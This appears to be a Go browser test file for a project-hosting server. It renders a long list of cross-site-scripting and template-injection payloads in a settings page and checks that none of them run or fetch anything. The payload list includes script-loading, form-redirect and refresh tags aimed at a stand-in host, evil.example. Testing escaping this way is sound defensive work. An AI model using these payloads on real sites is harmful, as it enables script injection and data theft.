package hubserver_test

import (
	"context"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/network"
	cdpage "github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
	"github.com/go-json-experiment/json"
	"github.com/google/go-cmp/cmp"

	"example.com/projecthub/hubserver/page"
	"example.com/projecthub/store/storetest"
)

// browser is a real Chromium that notes what a page does beyond being shown.
type browser struct {
	context.Context
	mu       sync.Mutex
	requests []string
	refused  []string // requests that the hub refused, which a browser writes to the console, too
	events   []string // exceptions, and messages on the console
	warnings []string // that it was about to leave a page
}

// watch is put into each page by the browser itself, whatever the page's policy.
const watch = `window.misdeeds = [];
	addEventListener("securitypolicyviolation", e => misdeeds.push(e.violatedDirective + " " + e.blockedURI));
	window.alert = text => misdeeds.push("alert " + text);`

func newBrowser(t *testing.T) *browser {
	t.Helper()
	takesLong(t)
	if _, err := exec.LookPath("chromium"); err != nil {
		storetest.Missing(t, "the program chromium: install it, as with apt-get install chromium")
	}
	options := append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath("chromium"),
		chromedp.UserDataDir(t.TempDir()))
	if os.Geteuid() == 0 {
		options = append(options, chromedp.NoSandbox) // which it refuses to set up for root
	}
	ctx, cancel := context.WithTimeout(t.Context(), 3*time.Minute)
	t.Cleanup(cancel)
	ctx, cancel = chromedp.NewExecAllocator(ctx, options...)
	t.Cleanup(cancel)
	ctx, cancel = chromedp.NewContext(ctx)
	t.Cleanup(cancel)
	b := &browser{Context: ctx}
	do(t, b, chromedp.Steps()) // starts it
	if err := chromedp.Listen(ctx, b.note); err != nil {
		t.Fatal(err)
	}
	if _, err := chromedp.Call(ctx, cdpage.AddScriptToEvaluateOnNewDocument,
		cdpage.AddScriptToEvaluateOnNewDocumentParams{Source: watch}); err != nil {
		t.Fatal(err)
	}
	return b
}

func (b *browser) note(event any) {
	b.mu.Lock()
	defer b.mu.Unlock()
	switch e := event.(type) {
	case *network.EventRequestWillBeSent:
		b.requests = append(b.requests, e.Request.URL)
	case *network.EventResponseReceived:
		if e.Response.Status >= http.StatusBadRequest {
			b.refused = append(b.refused, fmt.Sprintf("%d %s", e.Response.Status, e.Response.URL))
		}
	case *runtime.EventExceptionThrown:
		b.events = append(b.events, "exception "+e.ExceptionDetails.Text)
	case *runtime.EventConsoleAPICalled:
		b.events = append(b.events, "console "+string(e.Type))
	}
}

// do runs one action in a browser and returns what it gives.
func do[T any](t *testing.T, b *browser, action chromedp.Action[T]) T {
	t.Helper()
	result, err := chromedp.Run(b.Context, action)
	for range 3 {
		if err == nil || !strings.Contains(err.Error(), "node with given id") {
			break
		}
		// The element was found in a page that another one replaced before anything was done.
		result, err = chromedp.Run(b.Context, action)
	}
	if err != nil {
		t.Fatal(err)
	}
	return result
}

// payloads are texts that run somewhere when they are not taken for text.
func payloads() (all []string) {
	for _, core := range []string{
		`<script>alert(1)</script>`, `<script src=//evil.example/x.js></script>`, `<img src=x onerror=alert(1)>`,
		`<img src=//evil.example/x.png>`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
		`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`, `<iframe src=javascript:alert(1)>`,
		`<iframe srcdoc="<script>alert(1)</script>">`, `<object data=javascript:alert(1)>`, `<embed src=//evil.example>`,
		`<a href=javascript:alert(1)>x</a>`, `<form action=//evil.example><input name=q><button>x`,
		`<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
		`<link rel=stylesheet href=//evil.example/x.css>`,
		`<style>@import "//evil.example/x.css"; body{background:url(//evil.example/x)}</style>`, `<body onload=alert(1)>`,
		`<input autofocus onfocus=alert(1)>`, `<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)>`,
		`<marquee onstart=alert(1)>`,
		`<!--<script>alert(1)`, `--><script>alert(1)</script>`, `]]><script>alert(1)</script>`,
		`<![CDATA[<script>alert(1)</script>]]>`, `<?xml version="1.0"?>`, `<template><script>alert(1)</script></template>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`{{7*7}}`, `${alert(1)}`, `#{7*7}`, `<%= 7*7 %>`, `{{.Ref}}`, `{{template "head" .}}`, `javascript:alert(1)`,
		`data:text/html,<script>alert(1)</script>`, `vbscript:x`, `' onmouseover=alert(1) x='`, `" onmouseover=alert(1) x="`,
		"` onmouseover=alert(1) x=`",
		"\u2028alert(1)\u2029", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\ufeff<script>alert(1)</script>", "\ufffe",
		`__proto__`, `constructor`, `<a id=cookie name=body>`, `&lt;script&gt;`, `&#60;script&#62;alert(1)&#60;/script&#62;`,
		`\u003cscript\u003ealert(1)`, "a\tb\nc",
	} {
		for _, before := range []string{"", `">`, `'>`, `</code></td></tr></table>`, `</title></style></textarea>`} {
			all = append(all, before+core)
		}
	}
	return all
}

func TestBrowser_ConfigNeverRuns(t *testing.T) {
	t.Parallel()
	hub := one(t, nil)
	hub.as("alice").post("/v1/apis/upload?account=acme&slug=pets",
		strings.Replace(pets, "Pets", "<script>alert(1)</script>", 1)).want(201)
	hub.as("alice").put(site+"/versions/1.0.0", bundle(t, "1.0.0")).want(201)
	hub.publicProject("web")
	settings := map[string]string{"large": strings.Repeat("<script>alert(1)</script>", 20_000)}
	for _, p := range payloads() {
		settings[p] = p
	}
	text, err := json.Marshal(settings)
	if err != nil {
		t.Fatal(err)
	}
	hub.settings(string(text))
	b := newBrowser(t)
	// The page as it is without the editor, which would take its place.
	editor := &network.BlockPattern{URLPattern: "*://*:*/static/*/dist/editor.js", Block: true}
	without := network.SetBlockedURLsParams{URLPatterns: []*network.BlockPattern{editor}}
	if _, err := chromedp.Call(b.Context, network.SetBlockedURLs, without); err != nil {
		t.Fatal(err)
	}
	var rows [][2]string
	var elements, misdeeds []string
	for path := "/@acme/web"; path != ""; {
		do(t, b, chromedp.Navigate(hub.url+path))
		rows = append(rows,
			do(t, b, chromedp.Evaluate[[][2]string](
				`Array.from(document.querySelectorAll("tbody tr"), r => [r.children[0].textContent, r.children[1].textContent])`))...)
		elements = append(elements, do(t, b, chromedp.Evaluate[[]string](`Array.from(document.querySelectorAll("tbody *, script"), e => e.localName == "script" ? e.getAttribute("src") : e.localName)
			.filter(n => !["tr", "th", "td", "code", "`+page.StaticURL("dist/shell.js")+`",
				"`+page.StaticURL("dist/editor.js")+`"].includes(n))`))...)
		misdeeds = append(misdeeds, do(t, b, chromedp.Evaluate[[]string](`window.misdeeds`))...)
		path = do(t, b, chromedp.Evaluate[string](
			`(next => next ? next.pathname + next.search : "")(document.querySelector("[rel=next]"))`))
	}
	if t.Logf("%d payloads", len(settings)); len(settings) < 200 || len(rows) != len(settings) {
		t.Errorf("%d payloads became %d rows", len(settings), len(rows))
	}
	shown := map[string]string{}
	for _, r := range rows {
		shown[r[0]] = r[1]
	}
	for name := range settings {
		if _, ok := shown[strings.NewReplacer(`\`, `\\`, `.`, `\.`, "\t", `\u0009`, "\n", `\u000a`).Replace(name)]; !ok {
			t.Errorf("the key %q is not shown as it is", name)
		}
	}
	b.mu.Lock()
	if len(elements) != 0 || len(misdeeds) != 0 || len(b.events) != 0 {
		t.Errorf("the elements %q came to be, and there were %q and %q", elements, misdeeds, b.events)
	}
	if len(b.requests) < 2 {
		t.Errorf("only the requests %q were seen", b.requests)
	}
	for _, url := range b.requests {
		if !strings.HasPrefix(url, hub.url+"/") {
			t.Errorf("the page asks for %s", url)
		}
	}
	b.mu.Unlock()
	// Had there been something, it would have been seen.
	refused := do(t, b, chromedp.Evaluate[string](`new Promise(seen => {
		addEventListener("securitypolicyviolation", e => seen(e.violatedDirective));
		document.body.append(Object.assign(new Image(), {src: "http://127.0.0.1:9/x.png"}));
	})`, chromedp.EvalAwaitPromise))
	if refused != "img-src" {
		t.Errorf("of an image from elsewhere the policy says %q", refused)
	}
}

func TestBrowser_PagesFitWindowsAndDarkMode(t *testing.T) {
	t.Parallel()
	hub := one(t, nil)
	hub.catalog()
	hub.publicProject("web")
	hub.settings(fmt.Sprintf(`{"theme": {"color": "teal"}, %q: %q}`, strings.Repeat("long", 50),
		strings.Repeat("wide", 200)))
	hub.as("alice").put(baseFiles, archive(t, file{name: "a"})).want(200)
	b := newBrowser(t)
	for _, path := range []string{"/@acme/web", "/@acme/none"} {
		for _, width := range []int64{320, 400, 1280} {
			do(t, b, chromedp.Steps(chromedp.EmulateViewport(width, 800), chromedp.Navigate(hub.url+path)))
			if wide := do(t, b, chromedp.Evaluate[int64](`document.documentElement.scrollWidth`)); wide > width {
				t.Errorf("%s is %d pixels wide in a window of %d", path, wide, width)
			}
		}
	}
	colours := map[string]string{}
	for _, scheme := range []string{"light", "dark"} {
		media := emulation.SetEmulatedMediaParams{Features: []*emulation.MediaFeature{{Name: "prefers-color-scheme",
			Value: scheme}}}
		if _, err := chromedp.Call(b.Context, emulation.SetEmulatedMedia, media); err != nil {
			t.Fatal(err)
		}
		do(t, b, chromedp.Navigate(hub.url+"/@acme/web"))
		colours[scheme] = do(t, b, chromedp.Evaluate[string](`getComputedStyle(document.body).color`))
	}
	if diff := cmp.Diff(map[string]string{"light": "rgb(18, 22, 26)", "dark": "rgb(238, 240, 242)"}, colours); diff != "" {
		t.Error(diff)
	}
}
